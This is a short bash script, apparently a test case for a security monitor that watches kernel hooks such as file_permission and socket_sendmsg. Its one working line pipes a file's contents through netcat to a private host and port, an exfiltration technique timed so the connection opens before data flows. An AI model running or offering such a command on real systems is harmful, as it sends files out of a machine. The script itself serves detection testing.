#!/usr/bin/env bash
# technique: a pipe ends in nc, which had connected before the first byte came
# hooks: file_permission (of the pipe, looked at again at the sink), socket_sendmsg
# sink: private-tcp

. attack.sh
(sleep 1; cat "$SCAN") | timeout 6 nc -q 1 "$PRIVATE_HOST" "$PORT_TCP"
